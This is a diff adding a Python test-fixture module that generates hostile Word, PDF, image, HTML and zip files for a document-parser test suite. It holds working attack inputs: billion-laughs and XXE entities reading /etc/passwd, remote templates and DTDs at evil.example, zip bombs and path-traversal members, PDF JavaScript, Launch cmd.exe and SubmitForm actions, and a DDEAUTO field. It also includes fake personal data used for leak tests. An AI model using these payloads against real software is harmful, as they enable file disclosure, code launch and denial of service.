@@ -1,0 +1,370 @@
+"""Files made to do harm, by the names that tests/cases/hostile uses: Word files, PDF, pictures, archives."""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+import socket
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+STRICT = 'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+TITLE = "<w:p><w:r><w:t>云溪市民政局关于防汛工作的报告</w:t></w:r></w:p>"
+END = "<w:p><w:r><w:t>云溪市民政局</w:t></w:r></w:p><w:p><w:r><w:t>2024年5月6日</w:t></w:r></w:p>"
+SAYS = "<w:p><w:r><w:t>正文的话。</w:t></w:r></w:p>"
+PHONE = "联系人13800138000"
+
+
+def zipped(parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    """A zip file of these members."""
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", compression) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return stream.getvalue()
+
+
+def relations(*rows: tuple[str, str], outer: bool = False) -> str:
+    """A part of relations; each row is (kind, target)."""
+    mode = ' TargetMode="External"' if outer else ""
+    words = "".join(
+        f'<Relationship Id="r{place}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
+        for place, (kind, target) in enumerate(rows)
+    )
+    return f'<Relationships xmlns="{PACKAGE}">{words}</Relationships>'
+
+
+def parts_of(body: str, namespace: str = W, **others: str) -> dict[str, str | bytes]:
+    """The parts of a Word file with this body; in ``others`` the root element is given its namespace here."""
+    kinds = {name: re.sub(r"^<(w:\w+)", rf"<\1 {namespace}", words) for name, words in others.items()}
+    return {
+        "_rels/.rels": relations(("officeDocument", "word/document.xml")),
+        "word/document.xml": f"<w:document {namespace}><w:body>{body}</w:body></w:document>",
+        "word/_rels/document.xml.rels": relations(*((name, f"{name}.xml") for name in kinds)),
+        **{f"word/{name}.xml": words for name, words in kinds.items()},
+    }
+
+
+def word(body: str, **others: str) -> bytes:
+    """A Word file. ``{words}`` in the body is short for a run of them; title, sender and date are added."""
+    filled = re.sub(r"\{([^{}]*)\}", r'<w:r><w:t xml:space="preserve">\1</w:t></w:r>', TITLE + body + END)
+    filled = re.sub(r"(<w:sectPr>.*?</w:sectPr>)(.*)", r"\2\1", filled, flags=re.DOTALL)
+    others = {k: re.sub(r"\{([^{}]*)\}", r"<w:r><w:t>\1</w:t></w:r>", v) for k, v in others.items()}
+    return zipped(parts_of(filled, **others))
+
+
+def _changed(**parts: str | bytes) -> bytes:
+    whole = parts_of(TITLE + SAYS + END)
+    return zipped({**whole, **{name.replace("__", "/"): words for name, words in parts.items()}})
+
+
+def _document(before: str, body: str = SAYS) -> bytes:
+    whole = parts_of("")
+    whole["word/document.xml"] = f"{before}<w:document {W}><w:body>{TITLE}{body}{END}</w:body></w:document>"
+    return zipped(whole)
+
+
+def _marked_encrypted() -> bytes:
+    data = bytearray(word(SAYS))
+    for start, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        place = data.find(start)
+        while place >= 0:
+            data[place + flags] |= 1
+            place = data.find(start, place + 4)
+    return bytes(data)
+
+
+def _lying() -> bytes:
+    """The directory says that the text is short; unpacked it is not."""
+    data = bytearray(zipped({**parts_of(""), "word/document.xml": b" " * 40_000_000}))
+    place = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/document.xml"))
+    data[place + 24 : place + 28] = struct.pack("<I", 1000)
+    return bytes(data)
+
+
+def _twice() -> bytes:
+    stream = io.BytesIO(word(SAYS))
+    with zipfile.ZipFile(stream, "a") as archive:
+        info = zipfile.ZipInfo("word/document.xml")
+        archive.writestr(info, f"<w:document {W}><w:body>{TITLE}{END}</w:body></w:document>")
+    return stream.getvalue()
+
+
+def _flipped() -> bytes:
+    return bytes(byte ^ (0x55 if 60 < place < 75 else 0) for place, byte in enumerate(word(SAYS)))
+
+
+LAUGHS = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(11))
+BOMB = f'<!DOCTYPE x [<!ENTITY e0 "哈">{LAUGHS}]>'
+OUTER = {"officeDocument": "https://evil.example/x.xml"}
+
+
+def workbook(rows: list[list[str | int]], hidden: list[list[str | int]] | None = None, **others: str) -> bytes:
+    """A workbook with one sheet, and perhaps a hidden one."""
+
+    def sheet(cells: list[list[str | int]]) -> str:
+        made = "".join(
+            "<row>"
+            + "".join(
+                f"<c><v>{cell}</v></c>" if isinstance(cell, int) else f'<c t="inlineStr"><is><t>{cell}</t></is></c>'
+                for cell in row
+            )
+            + "</row>"
+            for row in cells
+        )
+        return f"<worksheet><sheetData>{made}</sheetData></worksheet>"
+
+    sheets = {"xl/worksheets/sheet1.xml": sheet(rows)}
+    if hidden:
+        sheets["xl/worksheets/sheet2.xml"] = sheet(hidden)
+    return zipped({"xl/workbook.xml": "<workbook/>", **sheets, **others})
+
+
+def pdf(
+    content: bytes = b"BT ET",
+    catalog: bytes = b"",
+    trailer: bytes = b"",
+    pages: bytes = b"/Kids [4 0 R]",
+    packed: bool = False,
+) -> bytes:
+    """A PDF of one page with a table of its objects."""
+    filters = b"/Filter /FlateDecode " if packed else b""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
+        b"<< /Type /Pages /Count 1 " + pages + b" >>",
+        b"<< " + filters + b"/Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 3 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ]
+    made, places = b"%PDF-1.4\n", []
+    for number, words in enumerate(objects, 1):
+        places.append(len(made))
+        made += str(number).encode() + b" 0 obj\n" + words + b"\nendobj\n"
+    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
+    end = b"xref\n0 6\n0000000000 65535 f \n" + rows + b"trailer\n<< /Size 6 /Root 1 0 R " + trailer + b" >>\n"
+    return made + end + b"startxref\n" + str(len(made)).encode() + b"\n%%EOF\n"
+
+
+def png(width: int = 1, height: int = 1, chunks: list[tuple[bytes, bytes]] | None = None) -> bytes:
+    """A PNG; only one of one pixel is whole."""
+
+    def chunk(name: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
+
+    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
+    more = b"".join(chunk(*pair) for pair in chunks or [])
+    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
+
+
+def jpeg(exif: bool = False, comment: bytes = b"") -> bytes:
+    """A JPEG as Pillow writes it, with a place and a turn in its Exif when asked for."""
+    from PIL import Image  # noqa: PLC0415
+
+    picture = Image.new("RGB", (8, 4), (200, 30, 30))
+    stream = io.BytesIO()
+    facts = Image.Exif()
+    if exif:
+        facts[0x0112] = 6
+        facts[0x010F] = "SecretCamera"
+        facts.get_ifd(0x8825).update({1: "N", 2: (31.0, 12.0, 5.0), 3: "E", 4: (121.0, 28.0, 7.0)})
+    picture.save(stream, "JPEG", exif=facts.tobytes() if exif else b"", comment=comment or None)
+    return stream.getvalue()
+
+
+GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
+
+
+MAKERS: dict[str, Callable[[], bytes]] = {
+    "nothing": lambda: b"",
+    "plain-text": "云溪市民政局的报告\n正文的话。\n".encode,
+    "cut-off": lambda: zipped({**parts_of(""), "word/document.xml": f"<w:document {W}><w:body><w:p>"}),
+    "zip-cut-off": lambda: word(SAYS)[:-40],
+    "bytes-flipped": _flipped,
+    "ole": lambda: OLE + bytes(2000),
+    "ole-encrypted": lambda: OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500),
+    "zip-encrypted": _marked_encrypted,
+    "billion-laughs": lambda: _document(BOMB, "<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>"),
+    "long-entity": lambda: _document(
+        f'<!DOCTYPE x [<!ENTITY a "{"长" * 50000}">]>', f"<w:p><w:r><w:t>{'&a;' * 5000}</w:t></w:r></w:p>"
+    ),
+    "outside-entity": lambda: _document('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "<w:p>&a;</w:p>"),
+    "outside-dtd": lambda: _document('<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">'),
+    "xinclude": lambda: _document(
+        "", SAYS + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
+    ),
+    "stylesheet": lambda: _document('<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>'),
+    "bomb-text": lambda: zipped({**parts_of(""), "word/document.xml": b" " * 30_000_000}),
+    "bomb-picture": lambda: _changed(word__media__bmp=bytes(210_000_000)),
+    "lying-size": _lying,
+    "nested-zip": lambda: _changed(word__embeddings__zip=zipped({"a.zip": zipped({"b.zip": bytes(100_000)})})),
+    "many-parts": lambda: zipped({f"{place}.xml": "" for place in range(5_001)}, zipfile.ZIP_STORED),
+    "overlap": lambda: word(SAYS) + word(SAYS)[200:],
+    "twice": _twice,
+    "climbing-member": lambda: zipped(
+        {**parts_of(TITLE + SAYS + END), "../../../tmp/gongbao-evil.txt": "x", "/etc/gongbao-evil": "x"}
+    ),
+    "main-outside": lambda: zipped({"_rels/.rels": relations(("officeDocument", "../../etc/passwd"))}),
+    "main-external": lambda: zipped(
+        {**parts_of(TITLE + SAYS + END), "_rels/.rels": relations(*OUTER.items(), outer=True)}
+    ),
+    "remote-template": lambda: zipped(
+        {
+            **parts_of(TITLE + SAYS + END),
+            "word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/x.dotm"), outer=True),
+        }
+    ),
+    "remote-picture": lambda: zipped(
+        {
+            **parts_of(
+                TITLE + SAYS + "<w:p><w:r><w:drawing><a:blip r:link='r0' xmlns:a='urn:a' xmlns:r='urn:r'/>"
+                "</w:drawing></w:r></w:p>" + END
+            ),
+            "word/_rels/document.xml.rels": relations(("image", "https://evil.example/spy.png"), outer=True),
+        }
+    ),
+    "macros": lambda: zipped({**parts_of(TITLE + SAYS + END), "word/vbaProject.bin": OLE + bytes(100)}),
+    "workbook": lambda: workbook([["姓名"]]),
+    "presentation": lambda: zipped({"ppt/presentation.xml": "<x/>"}),
+    "opendocument": lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}),
+    "plain-zip": lambda: zipped({"a.txt": "正文的话。"}),
+    "pdf": pdf,
+    "web-page": (
+        "<!DOCTYPE html><html><head><title>云溪市民政局关于防汛的报告</title><script>alert(1)</script></head>"
+        "<body onload=alert(1)><h1>云溪市民政局关于防汛的报告</h1><p onclick=alert(1)>正文的话，清淤河道三处。</p>"
+        "<iframe src='javascript:alert(1)'></iframe><p>云溪市民政局</p><p>2024年5月6日</p></body></html>"
+    ).encode,
+    "web-page-deep": lambda: b"<html><body>" + b"<div>" * 10_000 + "正文的话。".encode() + b"</body></html>",
+    "web-page-comments": lambda: b"<html><body><p>" + "正文的话。".encode() + b"</p>" + b"<!--" * 200_000,
+    "web-page-entities": f"<!DOCTYPE html [<!ENTITY a '哈'>{LAUGHS}]><html><p>正文的话。&e11;</p></html>".encode,
+    "deep": lambda: _document("", "<w:ins>" * 3000 + SAYS + "</w:ins>" * 3000),
+    "empty-paragraphs": lambda: _document("", "<w:p/>" * 1_000_000 + SAYS),
+    "strict": lambda: zipped(parts_of(TITLE + SAYS + END, STRICT)),
+    "utf-16": lambda: zipped(
+        {
+            **parts_of(""),
+            "word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:document {W}><w:body>{TITLE}{SAYS}{END}'
+            "</w:body></w:document>".encode("utf-16"),
+        }
+    ),
+    "rtf": lambda: b"{\\rtf1\\ansi abc}",
+    "png": png,
+    "program": lambda: b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 20,
+    "large": lambda: "转移群众。".encode() * 1_400_000,
+    "long": lambda: "字".encode() * 1_500_001,
+    "pdf-encrypted": lambda: pdf(trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>"),
+    "pdf-broken": lambda: pdf()[:200],
+    "pdf-bomb": lambda: pdf(content=zlib.compress(bytes(200_000_000)), packed=True),
+    # attachments
+    "pdf-javascript": lambda: pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+    "pdf-hidden-javascript": lambda: pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
+    "pdf-names-javascript": lambda: pdf(
+        catalog=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"
+    ),
+    "pdf-launch": lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
+    "pdf-embedded": lambda: pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >>"),
+    "pdf-form": lambda: pdf(catalog=b"/AcroForm << /XFA (x) >>"),
+    "pdf-submit": lambda: pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
+    "pdf-phone": lambda: pdf(content=b"BT /F1 12 Tf 50 700 Td (Tel 13800138000) Tj ET"),
+    "pdf-id": lambda: pdf(content=b"BT /F1 12 Tf 50 700 Td (ID 110101199003077715) Tj ET"),
+    "pdf-words": lambda: pdf(content=b"BT /F1 12 Tf 50 700 Td (Report of 2024: 18399 visits) Tj ET"),
+    "pdf-author": lambda: pdf(trailer=b"/Info << /Author (Zhang San) >>"),
+    "pdf-stub": lambda: b"%PDF-1.4\n",
+    "pdf-loop": lambda: pdf(pages=b"/Kids [2 0 R]"),
+    "not-a-pdf": lambda: b"<script>alert(1)</script>",
+    "jpeg": jpeg,
+    "jpeg-gps": lambda: jpeg(exif=True),
+    "jpeg-comment": lambda: jpeg(comment=b"<script>alert(1)</script>"),
+    "jpeg-and-zip": lambda: jpeg() + zipped({"evil.js": "alert(1)"}),
+    "png-text": lambda: png(chunks=[(b"tEXt", b"Author\0Zhang San")]),
+    "png-bomb": lambda: png(width=100_000, height=100_000),
+    "png-stub": lambda: b"\x89PNG\r\n\x1a\n",
+    "gif": lambda: GIF,
+    "gif-script": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
+    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+    "html": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
+    "text": "姓名,部门\n张某某,民政局\n".encode,
+    "text-phone": f"姓名,电话\n张某某,{PHONE}\n".encode,
+    "text-gbk-phone": lambda: f"姓名,电话\n张某某,{PHONE}\n".encode("gb18030"),
+    "text-binary": lambda: bytes(range(256)),
+    "workbook-phone": lambda: workbook([["姓名", "电话"], ["张某某", "13800138000"]]),
+    "workbook-number": lambda: workbook([["电话"], [13800138000]]),
+    "workbook-hidden": lambda: workbook([["公开"]], hidden=[["110101199003077715"]]),
+    "workbook-macro": lambda: workbook([["甲"]], **{"xl/vbaProject.bin": "x"}),
+    "workbook-outer": lambda: workbook(
+        [["甲"]],
+        **{
+            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
+                ("externalLinkPath", "https://evil.example/x.xlsx"), outer=True
+            )
+        },
+    ),
+    "word-phone-comment": lambda: zipped(
+        {
+            **parts_of(SAYS),
+            "word/comments.xml": f"<w:comments {W}><w:p><w:r><w:t>{PHONE}</w:t></w:r></w:p></w:comments>",
+        }
+    ),
+    "word-phone-deleted": lambda: zipped(
+        parts_of(f"<w:p><w:del><w:r><w:delText>{PHONE}</w:delText></w:r></w:del></w:p>")
+    ),
+    "word-phone-header": lambda: zipped(
+        {**parts_of(SAYS), "word/header1.xml": f"<w:hdr {W}><w:p><w:r><w:t>{PHONE}</w:t></w:r></w:p></w:hdr>"}
+    ),
+    "word-dde": lambda: zipped(
+        parts_of("<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r></w:p>")
+    ),
+    "word-embedded-phone": lambda: zipped(
+        {**parts_of(SAYS), "word/embeddings/Sheet1.xlsx": workbook([["13800138000"]])}
+    ),
+    "word": lambda: zipped(parts_of(SAYS)),
+    "word-author": lambda: zipped(
+        {
+            **parts_of(SAYS),
+            "docProps/core.xml": '<c:coreProperties xmlns:c="urn:c" xmlns:d="urn:d"><d:creator>张某某</d:creator>'
+            "</c:coreProperties>",
+        }
+    ),
+    "zip": lambda: zipped({"a.csv": "甲,乙\n"}),
+    "zip-phone": lambda: zipped({"名单/a.csv": PHONE}),
+    "zip-workbook-phone": lambda: zipped({"a.xlsx": workbook([["13800138000"]])}),
+    "zip-climbing": lambda: zipped({"../../evil.txt": "x"}),
+    "zip-absolute": lambda: zipped({"/etc/evil": "x"}),
+    "zip-program": lambda: zipped({"a.exe": "MZ"}),
+    "zip-nested": lambda: zipped({"a.zip": zipped({"b.txt": "x"})}),
+    "zip-bomb": lambda: zipped({"a.txt": bytes(210_000_000)}),
+}
+
+
+def place_file(path: Path, make: str, beside: Path) -> None:
+    """Put a link, pipe, socket or one of MAKERS at ``path``; ``beside`` is a folder whose content must never leak."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if make == "link":
+        path.symlink_to(beside / "secret.txt")
+    elif make == "folder-link":
+        path.symlink_to(beside)
+    elif make == "dangling":
+        path.symlink_to("/nowhere/at/all")
+    elif make == "loop":
+        path.symlink_to(path.name)
+    elif make == "folder":
+        path.mkdir()
+    elif make == "pipe":
+        os.mkfifo(path)
+    elif make == "socket":
+        here = Path.cwd()
+        os.chdir(path.parent)  # the address of a socket may have a hundred bytes
+        try:
+            with socket.socket(socket.AF_UNIX) as listener:
+                listener.bind(path.name)
+        finally:
+            os.chdir(here)
+    else:
+        path.write_bytes(MAKERS[make]())
